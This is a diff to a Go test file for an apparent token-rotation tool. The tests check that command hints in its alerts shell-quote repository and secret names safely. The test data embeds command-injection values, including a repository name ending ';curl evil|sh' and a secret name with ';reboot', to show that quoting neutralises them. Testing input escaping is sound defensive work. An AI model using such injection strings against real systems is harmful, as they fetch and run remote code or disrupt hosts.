@@ -110,6 +110,23 @@ func step(s token.Step, hours int, repo, old, fresh string) token.Record {
 	return token.Record{Step: s, Time: began.Add(time.Duration(hours) * time.Hour), Repositories: strings.Fields(repo), Old: old, New: fresh, Expires: began.AddDate(0, 0, 90)}
 }
 
+// TestCommandsOfHints: a hint's command can be typed, wherever the token is, and
+// whatever somebody put on record.
+func TestCommandsOfHints(t *testing.T) {
+	r := step(token.Stored, 0, "acme/fleet", "A", "B")
+	r.Places = []token.Place{{Where: `esc acme/flux/prod git["hub.token"]`}, {Where: "secret flux-system/tok;reboot password"}}
+	r.Repositories = []string{"acme/x;curl evil|sh", "--help", "it's"}
+	found := token.Alerts(token.Drills([]token.Record{r}), began.AddDate(0, 0, 80), "")
+	for _, want := range []string{
+		"`fluxkeeper-receiver rotate finish --repo 'acme/x;curl evil|sh' --esc acme/flux/prod --esc-path 'git[\"hub.token\"]' --cluster-secret 'flux-system/tok;reboot'`",
+		`rotate start --repo 'acme/x;curl evil|sh' --repo '--help' --repo 'it'\''s' --esc`,
+	} {
+		if !slices.ContainsFunc(found, func(a token.Alert) bool { return strings.Contains(a.Hint, want) }) {
+			t.Errorf("no %s in %+v", want, found)
+		}
+	}
+}
+
 func TestAlerts(t *testing.T) {
 	short := func(r token.Record) token.Record {
 		r.Expires = began.Add(30 * time.Hour)
@@ -131,6 +148,9 @@ func TestAlerts(t *testing.T) {
 		"there was no old one":       {[]token.Record{step(token.Stored, 0, "acme/fleet", "", "B")}, 24, "", nil},
 		"finished":                   {[]token.Record{step(token.Stored, 0, "acme/fleet", "A", "B"), step(token.Finished, 3, "acme/fleet", "A", "B")}, 24, "", nil},
 		"the old one's own end came": {[]token.Record{short(step(token.Stored, 0, "acme/fleet", "", "A")), step(token.Stored, 1, "acme/fleet", "A", "B")}, 40, "", nil},
+		"it has none since":          {[]token.Record{short(step(token.Stored, 0, "acme/fleet", "", "A"))}, 31 + 30*24, "", nil},
+		"it had one lately": {[]token.Record{short(step(token.Stored, 0, "acme/fleet", "", "A"))}, 29 + 30*24, "",
+			[]string{"token/expired A"}},
 		"before that": {[]token.Record{short(step(token.Stored, 0, "acme/fleet", "", "A")), step(token.Stored, 1, "acme/fleet", "A", "B")}, 29, "",
 			[]string{"rotation/overdue B"}},
 		"an earlier one was never finished": {[]token.Record{step(token.Stored, 0, "acme/fleet", "A", "B"), step(token.Stored, 30, "acme/fleet", "B", "C"), step(token.Finished, 40, "acme/fleet", "B", "C")}, 60, "",
